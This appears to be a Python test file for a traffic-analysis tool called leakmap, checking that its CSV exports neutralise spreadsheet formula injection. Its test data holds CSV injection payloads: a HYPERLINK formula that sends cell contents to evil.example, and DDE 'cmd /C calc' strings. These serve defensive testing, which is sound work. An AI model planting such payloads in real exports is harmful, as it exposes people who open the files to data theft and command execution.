"""CSV exports are safe to open in a spreadsheet (OWASP "CSV Injection"): captured values that
start like a formula are defused with a leading `'`; JSON and Parquet keep the exact value."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from mitmproxy import io
from mitmproxy.test import tflow

from leakmap.export import export_findings, export_format
from leakmap.store import Store

LEAKMAP = Path(sys.executable).parent / "leakmap"
# One value per character OWASP lists, as an app could upload them (attacker-controlled).
FORMULAS = {
    "event": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "distinct_id": "+cmd|' /C calc'!A0",
    "$os": "-2+3+cmd|' /C calc'!A0",
    "$browser": "@SUM(1+1)*cmd|' /C calc'!A0",
    "$device": "\t=1+1",
    "$current_url": "\r=1+1",
}
PLAIN = {"$os_version": "17.4", "$referrer": "https://example.org/a,b \"quoted\""}


def formula_capture(path: Path) -> Path:
    """A .mitm dump with one Mixpanel track request (form `data=` JSON, as mixpanel-js sends)."""
    event = {"event": FORMULAS["event"],
             "properties": {"token": "csvtoken", **{k: v for k, v in FORMULAS.items() if k != "event"}, **PLAIN}}
    flow = tflow.tflow()
    flow.request.host, flow.request.port, flow.request.scheme = "api-js.mixpanel.com", 443, "https"
    flow.request.method, flow.request.path = "POST", "/track/?ip=1"
    flow.request.headers["content-type"] = "application/x-www-form-urlencoded"
    flow.request.raw_content = ("data=" + quote(json.dumps([event]))).encode()
    with path.open("wb") as f:
        io.FlowWriter(f).add(flow)
    return path


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`leakmap analyze` on the capture, keeping the store and exporting CSV (the real CLI)."""
    folder = tmp_path_factory.mktemp("formulas")
    capture = formula_capture(folder / "formulas.mitm")
    result = subprocess.run([str(LEAKMAP), "analyze", str(capture), "-o", str(folder / "r.html"), "--db",
                             str(folder / "f.db"), "--findings", str(folder / "findings.csv")],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return folder


def exported(folder: Path, name: str) -> Path:
    """The same findings exported in another format, through the CLI's export function."""
    store = Store(folder / "f.db")
    try:
        path = folder / name
        export_findings(store, path, export_format(path, None))
        return path
    finally:
        store.close()


def test_formula_cells_get_a_leading_quote_and_plain_cells_stay(analysed: Path):
    path = analysed / "findings.csv"
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    values = {row["value"] for row in rows}
    for formula in FORMULAS.values():
        assert "'" + formula in values, formula
        assert formula not in values
    for plain in PLAIN.values():
        assert plain in values
    # No cell anywhere starts like a formula (a URL column would carry the same risk).
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # Text cells are quoted, so a value with a comma, quote or newline cannot spill over.
    assert path.read_text(encoding="utf-8").splitlines()[1].startswith('"')


def test_json_export_keeps_the_exact_values(analysed: Path):
    rows = json.loads(exported(analysed, "findings.json").read_text())
    assert set(FORMULAS.values()) <= {row["value"] for row in rows}


def test_parquet_export_keeps_the_exact_values(analysed: Path):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    values = set(pd.read_parquet(exported(analysed, "findings.parquet"))["value"])
    assert set(FORMULAS.values()) <= values


def test_cells_are_encoded_as_the_csv_module_writes_them():
    """write_csv encodes cells itself (a request's columns once for all its findings): each
    cell must read back, and be written, exactly as csv.writer(QUOTE_NONNUMERIC) does."""
    import io

    from leakmap.export import csv_cell, spreadsheet_safe

    cells = ['plain', '', 'a "quoted" word', 'line\nbreak', 'cr\rlf\r\n', 'comma, here', '=HYPERLINK("x")',
             '+1', '-2', '@SUM(A1)', '\tTab', "'already", 'ünïcödé ✓', 'nul\x00byte', None, 0, 17, -3, 1.5,
             1733606372.907, True]
    expected = io.StringIO()
    csv.writer(expected, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").writerow(
        ["" if c is None else spreadsheet_safe(c) for c in cells])
    assert ",".join(csv_cell(c) for c in cells) + "\n" == expected.getvalue()
    assert next(csv.reader(io.StringIO(expected.getvalue())))[3] == "line\nbreak"
